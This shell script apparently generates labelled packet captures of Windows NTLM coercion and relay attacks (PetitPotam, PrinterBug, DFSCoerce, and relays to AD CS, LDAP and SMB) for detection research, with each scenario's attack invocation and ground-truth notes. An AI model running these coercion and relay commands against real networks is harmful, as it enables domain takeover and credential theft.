# Attacks: one function records one capture. Roles by address, see settings.sh.

COERCED_HERE=(malicious=yes attacker=$EVIL victim=$SRV listener=$EVIL)
IMPACKET_CALL='impacket 0.13.1'
COERCER_CALL='coercer 2.4.3, impacket 0.13.1'
FILE="\\\\$EVIL\\share\\file.txt"

scenario_petitpotam_pipe_clear() {
  callback_with libsmbclient
  record petitpotam_pipe_clear
  listen evil $EVIL
  call "ncacn_np:$SRV[\\pipe\\lsarpc]" EfsRpcOpenFileRaw:lsarpc "$FILE"
  truth "${COERCED_HERE[@]}" expect=coercion:efsr tools="$IMPACKET_CALL" \
    notes="Everything is readable: no SMB encryption, no RPC authentication. SMB2 WRITE and READ carry the pipe. The listener is impacket's smbserver, whose challenge is always aaaaaaaaaaaaaaaa."
}

scenario_petitpotam_tcp() {
  callback_with libsmbclient
  record petitpotam_tcp
  listen evil $EVIL
  call "ncacn_ip_tcp:$SRV" EfsRpcOpenFileRaw:efsrpc "$FILE" --map
  truth "${COERCED_HERE[@]}" expect=coercion:efsr tools="$IMPACKET_CALL" \
    notes="The endpoint mapper on 135 hands out 49664, there bind and request without authentication."
}

scenario_petitpotam_593() {
  callback_with libsmbclient
  record petitpotam_593
  listen evil $EVIL
  call "ncacn_http:$SRV[593]" EfsRpcOpenFileRaw:efsrpc "$FILE"
  truth "${COERCED_HERE[@]}" expect=coercion:efsr tools="$IMPACKET_CALL" \
    notes="The server speaks first: the 14 bytes ncacn_http/1.0, then bare DCE/RPC both ways."
}

scenario_petitpotam_rpc_over_http() {
  callback_with libsmbclient
  record petitpotam_rpc_over_http
  listen evil $EVIL
  call "ncacn_http:[593,RpcProxy=$SRV:80]" EfsRpcOpenFileRaw:efsrpc "$FILE" --proxy "http://$SRV/rpc/rpcproxy.dll"
  truth "${COERCED_HERE[@]}" expect=coercion:efsr tools="$IMPACKET_CALL" \
    notes="RPC over HTTP v2 on port 80: requests in the body of RPC_IN_DATA, answers on another connection in that of RPC_OUT_DATA, RTS PDUs between them, NTLM with a challenge of its own on each. tshark shows the bodies as HTTP data only."
}

scenario_petitpotam_sealed() {
  callback_with libsmbclient
  record petitpotam_sealed
  listen evil $EVIL
  coercer --filter-method-name EfsRpcOpenFileRaw --filter-pipe-name lsarpc
  truth "${COERCED_HERE[@]}" expect=coercion:efsr tools="$COERCER_CALL" \
    notes="Coercer as it comes: a test bind without authentication, then NTLM with PKT_PRIVACY, several forms of path. Interface and opnum are readable, the stub is not."
}

scenario_petitpotam_smb3_encrypted() {
  set_encryption default
  callback_with libsmbclient
  record petitpotam_smb3_encrypted
  listen evil $EVIL
  call "ncacn_np:$SRV[\\pipe\\lsarpc]" EfsRpcOpenFileRaw:lsarpc "$FILE"
  truth "${COERCED_HERE[@]}" expect=coercion:callback tools="$IMPACKET_CALL" \
    notes="The server offers SMB3 encryption, as modern servers do, and impacket takes it: of the call itself nothing is readable. What remains is timing and a machine account that logs on at its caller."
  set_encryption off
}

scenario_printerbug() {
  callback_with libsmbclient
  record printerbug
  listen evil $EVIL
  call "ncacn_np:$SRV[\\pipe\\spoolss]" RpcRemoteFindFirstPrinterChangeNotificationEx "\\\\$EVIL" --level 2
  truth "${COERCED_HERE[@]}" expect=coercion:rprn tools="$IMPACKET_CALL" \
    notes="The caller names itself, by address. RPC authentication level CONNECT: credentials in the bind, the stub in clear."
}

scenario_dfscoerce() {
  callback_with libsmbclient
  record dfscoerce
  listen drop $DROP
  call "ncacn_np:$SRV[\\pipe\\netdfs]" NetrDfsRemoveStdRoot "$DROP"
  truth malicious=yes attacker=$EVIL victim=$SRV listener=$DROP expect=coercion:dfsnm tools="$IMPACKET_CALL" \
    notes="The listener is another host than the caller. The server is named without backslashes, as the method wants it."
}

scenario_relay_smb_http_adcs() {
  callback_with libsmbclient
  record relay_smb_http_adcs
  relay -t "http://$CA/certsrv/certfnsh.asp" --adcs --template Machine --no-http-server
  coercer --filter-method-name EfsRpcOpenFileRaw --filter-pipe-name lsarpc
  sleep 4
  truth "${COERCED_HERE[@]}" target=$CA expect=coercion:efsr expect=relay:smb-http expect=adcs-enrollment \
    tools="$COERCER_CALL" \
    notes="The whole chain known as ESC8: sealed coercion, the victim's SMB logon, the same NTLM messages to /certsrv over HTTP, a certificate request and the certificate on the relayed connection."
}

scenario_relay_smb_ldap() {
  callback_with impacket
  record relay_smb_ldap
  relay -t "ldap://$DC" --no-http-server --no-acl --remove-mic
  call "ncacn_np:$SRV[\\pipe\\lsarpc]" EfsRpcOpenFileRaw:lsarpc "$FILE"
  sleep 5
  truth "${COERCED_HERE[@]}" target=$DC expect=coercion:efsr expect=relay:smb-ldap tools="$IMPACKET_CALL" \
    notes="Sicily bind, success, then a dump of the directory over the relayed session. The victim's client is impacket, which sends no MIC; the proof is the same on both legs although the flags differ."
}

scenario_relay_smb_smb() {
  callback_with libsmbclient
  record relay_smb_smb
  relay -t "smb://$FILES" --no-http-server
  call "ncacn_np:$SRV[\\pipe\\lsarpc]" EfsRpcOpenFileRaw:lsarpc "$FILE"
  sleep 3
  truth "${COERCED_HERE[@]}" target=$FILES expect=coercion:efsr expect=relay:smb-smb tools="$IMPACKET_CALL" \
    notes="The target is a real Samba member that does not require signing; it asks the domain controller about the logon over its sealed NETLOGON channel."
}
